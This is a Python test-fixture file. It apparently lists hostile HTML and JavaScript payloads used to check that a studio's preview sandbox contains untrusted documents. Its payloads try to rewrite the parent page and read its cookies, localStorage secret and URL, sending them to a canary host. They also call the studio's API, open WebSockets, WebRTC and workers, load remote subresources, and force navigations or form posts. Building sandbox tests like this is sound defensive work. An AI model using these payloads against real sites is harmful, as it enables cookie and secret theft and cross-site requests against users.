"""Hostile documents for the preview sandbox: each tries to read the studio, reach the network
(the canary, the studio's own API), navigate away or open something.

Placeholders: {C} the canary's URL, {CH} its host:port, {A} the studio's URL, {AH} its host:port.
A script payload records what happened to each attempt in `window.__r` (for debugging) and
marks `data-ran` on its root when it got to the end; every document also gets a last script
that marks `data-loaded`. `navigates`: the payload tries to replace its own document, so its
markers may be gone afterwards.
"""

# ruff: noqa: E501  (payloads are data: one per line reads best)
from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    name: str
    html: str
    navigates: bool = False


def attempt(code: str) -> str:
    """Run code, noting whether it threw; the whole thing marks data-ran at the end."""
    return (
        "<script>window.__r=window.__r||[];(async()=>{try{" + code + ";__r.push('ok')}catch(e){__r.push(String(e))}"
        "finally{document.documentElement.dataset.ran='1'}})()</script>"
    )


S = attempt
PAYLOADS = [
    # -- reading or changing the studio (parent / top) ------------------------------------------
    Payload("parent-dom-write", S("parent.document.body.innerHTML='PWNED'")),
    Payload("top-title-write", S("top.document.title='PWNED'")),
    Payload(
        "parent-dom-read-exfil",
        S("new Image().src='{C}/parent-dom?'+encodeURIComponent(parent.document.body.innerText.slice(0,50))"),
    ),
    Payload("parent-localstorage-exfil", S("new Image().src='{C}/ls?'+parent.localStorage.getItem('unmask.secret')")),
    Payload("parent-cookie-exfil", S("fetch('{C}/cookie?'+parent.document.cookie)")),
    Payload("parent-url-exfil", S("new Image().src='{C}/url?'+parent.location.href")),
    Payload("parent-frames-walk", S("for(const f of parent.frames){f.document.body.innerHTML='PWNED'}")),
    Payload("own-cookie", S("document.cookie='pwned=1';new Image().src='{C}/own-cookie?'+document.cookie")),
    Payload("own-localstorage", S("localStorage.setItem('unmask.secret','PWNED');new Image().src='{C}/own-ls'")),
    Payload("own-indexeddb", S("indexedDB.open('x').onsuccess=()=>fetch('{C}/idb')")),
    Payload("parent-postmessage", S("parent.postMessage({type:'PWNED', html:'<img src=x onerror=alert(1)>'},'*')")),
    Payload("parent-function-call", S("parent.eval(\"document.title='PWNED'\")")),
    # -- the network: canary and the studio's API -----------------------------------------------
    Payload("fetch-canary", S("await fetch('{C}/fetch')")),
    Payload("fetch-canary-no-cors", S("await fetch('{C}/fetch-no-cors',{mode:'no-cors'})")),
    Payload(
        "fetch-api-models",
        S("const r=await fetch('{A}/api/models');new Image().src='{C}/models?'+(await r.text()).length"),
    ),
    Payload(
        "fetch-api-generate",
        S(
            "await fetch('{A}/api/diffuse',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({prompt:'PWNED',max_new_tokens:4,stream:false})})"
        ),
    ),
    Payload(
        "fetch-api-no-cors-post",
        S("await fetch('{A}/api/diffuse',{method:'POST',mode:'no-cors',body:'{\"prompt\":\"PWNED\"}'})"),
    ),
    Payload("fetch-relative-api", S("await fetch('/api/models')")),
    Payload(
        "fetch-v1-completions",
        S(
            "await fetch('{A}/v1/completions',{method:'POST',mode:'no-cors',headers:{'Content-Type':'text/plain'},body:'{\"prompt\":\"x\"}'})"
        ),
    ),
    Payload("xhr-canary", S("const x=new XMLHttpRequest();x.open('GET','{C}/xhr');x.send()")),
    Payload(
        "xhr-api",
        S(
            "const x=new XMLHttpRequest();x.open('POST','{A}/api/preview');x.setRequestHeader('Content-Type','application/json');x.send('{\"html\":\"PWNED\"}')"
        ),
    ),
    Payload("websocket-canary", S("new WebSocket('ws://{CH}/ws')")),
    Payload("websocket-api", S("new WebSocket('ws://{AH}/api/diffuse')")),
    Payload("eventsource-canary", S("new EventSource('{C}/sse')")),
    Payload("eventsource-api", S("new EventSource('{A}/api/models')")),
    Payload("beacon-canary", S("if(!navigator.sendBeacon('{C}/beacon','x'))throw Error('refused')")),
    Payload("beacon-api", S("if(!navigator.sendBeacon('{A}/api/diffuse','{\"prompt\":\"x\"}'))throw Error('refused')")),
    Payload("fetch-keepalive", S("await fetch('{C}/keepalive',{method:'POST',keepalive:true,body:'x'})")),
    Payload(
        "webrtc-turn",
        S(
            "const pc=new RTCPeerConnection({iceServers:[{urls:'turn:{CH}?transport=udp',username:'PWNED',credential:'x'},{urls:'stun:{CH}'}]});pc.createDataChannel('x');await pc.setLocalDescription(await pc.createOffer())"
        ),
    ),
    Payload(
        "webrtc-child-realm",
        S(
            "const f=document.createElement('iframe');document.body.append(f);const pc=new f.contentWindow.RTCPeerConnection({iceServers:[{urls:'stun:{CH}'}]});pc.createDataChannel('x');await pc.setLocalDescription(await pc.createOffer())"
        ),
    ),
    Payload(
        "webrtc-frames-index",
        S(
            "document.body.insertAdjacentHTML('beforeend','<iframe></iframe>');const pc=new frames[frames.length-1].RTCPeerConnection({iceServers:[{urls:'stun:{CH}'}]});pc.createDataChannel('x');await pc.setLocalDescription(await pc.createOffer())"
        ),
    ),
    Payload(
        "webrtc-srcdoc",
        '<iframe srcdoc="<script>const pc=new RTCPeerConnection({iceServers:[{urls:&quot;stun:{CH}&quot;}]});pc.createDataChannel(&quot;x&quot;);pc.createOffer().then(o=>pc.setLocalDescription(o))</script>"></iframe>',
    ),
    Payload(
        "webrtc-srcdoc-js",
        S(
            "const f=document.createElement('iframe');f.srcdoc='<script>const pc=new RTCPeerConnection({iceServers:[{urls:\"stun:{CH}\"}]});pc.createDataChannel(\"x\");pc.createOffer().then(o=>pc.setLocalDescription(o))<'+'/script>';document.body.append(f)"
        ),
    ),
    Payload("worker-data-url", S("new Worker('data:text/javascript,fetch(\"{C}/worker\")')")),
    Payload(
        "worker-blob",
        S("new Worker(URL.createObjectURL(new Blob(['fetch(\"{C}/blob-worker\")'],{type:'text/javascript'})))"),
    ),
    Payload("service-worker", S("await navigator.serviceWorker.register('/sw.js')")),
    Payload("dynamic-import", S("await import('{C}/import.js')")),
    # -- subresources ---------------------------------------------------------------------------
    Payload("img-src", '<img src="{C}/img">'),
    Payload("img-srcset", '<img srcset="{C}/srcset 1x">'),
    Payload("picture-source", '<picture><source srcset="{C}/picture"><img alt=""></picture>'),
    Payload("input-image", '<input type="image" src="{C}/input-image">'),
    Payload("img-onerror-handler", '<img src="data:," onerror="fetch(\'{C}/onerror\')">'),
    Payload("css-background", "<style>body{background:url({C}/bg)}</style>"),
    Payload("css-import", "<style>@import url({C}/import.css);</style>"),
    Payload("css-font-face", "<style>@font-face{font-family:x;src:url({C}/font)}body{font-family:x}</style>x"),
    Payload("css-cursor", "<style>body{cursor:url({C}/cursor),auto}</style>"),
    Payload("style-attribute-url", '<div style="width:10px;height:10px;background-image:url({C}/style-attr)"></div>'),
    Payload("link-stylesheet", '<link rel="stylesheet" href="{C}/style.css">'),
    Payload("link-prefetch", '<link rel="prefetch" href="{C}/prefetch">'),
    Payload("link-preload", '<link rel="preload" as="fetch" href="{C}/preload" crossorigin>'),
    Payload("link-preconnect", '<link rel="preconnect" href="{C}"><link rel="dns-prefetch" href="{C}">'),
    Payload("link-icon", '<link rel="icon" href="{C}/favicon.ico">'),
    Payload("script-src", '<script src="{C}/script.js"></script>'),
    Payload("iframe-src", '<iframe src="{C}/iframe"></iframe>'),
    Payload("iframe-srcdoc-fetch", "<iframe srcdoc=\"<script>fetch('{C}/srcdoc')</script>\"></iframe>"),
    Payload("iframe-data-url", '<iframe src="data:text/html,<img src={C}/data-iframe>"></iframe>'),
    Payload("object-data", '<object data="{C}/object"></object>'),
    Payload("embed-src", '<embed src="{C}/embed">'),
    Payload("video-poster", '<video src="{C}/video" poster="{C}/poster" autoplay muted></video>'),
    Payload("audio-src", '<audio src="{C}/audio" autoplay></audio>'),
    Payload("svg-image", '<svg><image href="{C}/svg-image" width="10" height="10"/></svg>'),
    Payload("svg-use", '<svg><use href="{C}/use.svg#x"/></svg>'),
    Payload(
        "svg-feimage",
        '<svg><filter id="f"><feImage href="{C}/feimage"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>',
    ),
    Payload("base-href", '<base href="{C}/base/"><img src="relative.png">'),
    Payload(
        "speculation-rules",
        '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["{C}/speculation"]}]}</script>',
    ),
    Payload(
        "anchor-ping",
        S("const a=document.createElement('a');a.href='#x';a.ping='{C}/ping';document.body.append(a);a.click()"),
    ),
    # -- navigation, popups, forms, dialogs, downloads --------------------------------------------
    Payload("self-location", S("location.href='{C}/self-nav'"), navigates=True),
    Payload("self-location-api", S("location.href='{A}/api/models'"), navigates=True),
    Payload(
        "self-anchor-click",
        S("const a=document.createElement('a');a.href='{C}/anchor';document.body.append(a);a.click()"),
        navigates=True,
    ),
    Payload("meta-refresh", '<meta http-equiv="refresh" content="0;url={C}/refresh">', navigates=True),
    Payload("top-location", S("top.location.href='{C}/top-nav'")),
    Payload("parent-location", S("parent.location='{C}/parent-nav'")),
    Payload("top-javascript-url", S("top.location='javascript:document.title=\"PWNED\"'")),
    Payload(
        "anchor-target-top",
        S(
            "const a=document.createElement('a');a.href='{C}/target-top';a.target='_top';document.body.append(a);a.click()"
        ),
    ),
    Payload("window-open", S("if(!window.open('{C}/popup'))throw Error('blocked')")),
    Payload(
        "anchor-target-blank",
        S(
            "const a=document.createElement('a');a.href='{C}/blank';a.target='_blank';a.rel='opener';document.body.append(a);a.click()"
        ),
    ),
    Payload(
        "form-post-api",
        '<form id="f" method="post" action="{A}/api/diffuse" enctype="text/plain"><input name=\'{"prompt":"PWNED","x":"\' value=\'"}\'></form>'
        + S("document.getElementById('f').submit()"),
        navigates=True,
    ),
    Payload(
        "form-get-canary",
        '<form id="f" action="{C}/form"><input name="q" value="PWNED"></form>'
        + S("document.getElementById('f').requestSubmit()"),
        navigates=True,
    ),
    Payload(
        "form-target-top",
        '<form id="f" action="{C}/form-top" target="_top"></form>' + S("document.getElementById('f').submit()"),
    ),
    Payload("alert-dialog", S("alert('PWNED');confirm('PWNED');prompt('PWNED')")),
    Payload("print-dialog", S("print()")),
    Payload(
        "download",
        S(
            "const a=document.createElement('a');a.href='data:text/plain,PWNED';a.download='pwned.txt';document.body.append(a);a.click()"
        ),
    ),
    Payload("history-push-exfil", S("history.pushState({},'','/PWNED');new Image().src='{C}/history?'+location.href")),
]

MARK_LOADED = "<script>document.documentElement.dataset.loaded='1'</script>"


def render(payload: Payload, canary_url: str, api_url: str) -> str:
    """The payload as a complete document with its URLs filled in."""
    html = payload.html
    for key, value in {
        "{CH}": canary_url.split("//", 1)[1],
        "{AH}": api_url.split("//", 1)[1],
        "{C}": canary_url,
        "{A}": api_url,
    }.items():
        html = html.replace(key, value)
    return f"<!doctype html><html><head><meta charset='utf-8'><title>{payload.name}</title></head><body>{html}{MARK_LOADED}</body></html>"
